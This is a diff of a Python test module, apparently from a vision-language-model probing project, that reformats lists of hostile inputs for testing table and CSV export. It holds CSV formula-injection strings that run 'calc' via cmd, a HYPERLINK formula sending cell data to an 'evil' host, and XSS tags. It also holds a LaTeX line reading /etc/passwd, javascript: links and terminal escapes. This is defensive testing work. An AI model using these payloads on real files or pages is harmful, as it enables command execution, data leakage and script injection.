@@ -23,15 +23,44 @@ from lvlm_probe.study.tables.paper import make_table
 from lvlm_probe.study.tables.table import Table
 
 FORMULAS = (
-    "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "\ufeff=1+1", "＝1+1", "-1e", "--1", "=", "+",
-)  # fmt: skip
+    "=cmd|'/C calc'!A0",
+    '=HYPERLINK("http://evil/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "\n=1+1",
+    "\ufeff=1+1",
+    "＝1+1",
+    "-1e",
+    "--1",
+    "=",
+    "+",
+)
 PLAIN = ("-5", "+3.5", "-1,000", "-.5", "1e-3", "-5 %", "+0.512 ± 0.003", "red", "", "a=b", "it's", "'=1")
 NAMES = (
-    "d\n\\input{/etc/passwd}\n%", "<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "a | b", "=1+1",
-    "[x](javascript:alert(1))", "![x](http://evil/x.png)", "`code`", "$\\nope", "~~~", "# title", "^^5cinput",
-    "\\end{tabular}", "{", "&lt;", "a\r\u2028b\u2029c", "[1pt]", "*", "\x00\x1b[2J",
-)  # fmt: skip
+    "d\n\\input{/etc/passwd}\n%",
+    "<script>alert(1)</script>",
+    '<img src=x onerror="alert(1)">',
+    "a | b",
+    "=1+1",
+    "[x](javascript:alert(1))",
+    "![x](http://evil/x.png)",
+    "`code`",
+    "$\\nope",
+    "~~~",
+    "# title",
+    "^^5cinput",
+    "\\end{tabular}",
+    "{",
+    "&lt;",
+    "a\r\u2028b\u2029c",
+    "[1pt]",
+    "*",
+    "\x00\x1b[2J",
+)
 
 
 NUMBER = r"[-+]?[\d.,]+(e[-+]?\d+)?( ?%| ± [\d.]+)?"
@@ -145,11 +174,17 @@ def test_judgements_made_in_an_exported_csv_are_found_again(hostile_results: Res
 def test_the_meters_csv(tmp_path: Path) -> None:
     readings = [
         read_answer(
-            [text, " red"], [False, False], [-1.0, -2.0], [0.5, -3.0],
-            source="a.jsonl, line 1", id=text, question=text, baseline="blur",
+            [text, " red"],
+            [False, False],
+            [-1.0, -2.0],
+            [0.5, -3.0],
+            source="a.jsonl, line 1",
+            id=text,
+            question=text,
+            baseline="blur",
         )
         for text in (*FORMULAS, "plain", "\ud800")
-    ]  # fmt: skip
+    ]
     write_csv(readings, tmp_path / "m.csv", unread=[Unread("=1+1", "@SUM(1)")])
     with (tmp_path / "m.csv").open(encoding="utf-8", newline="") as file:
         rows = list(csv.DictReader(file))
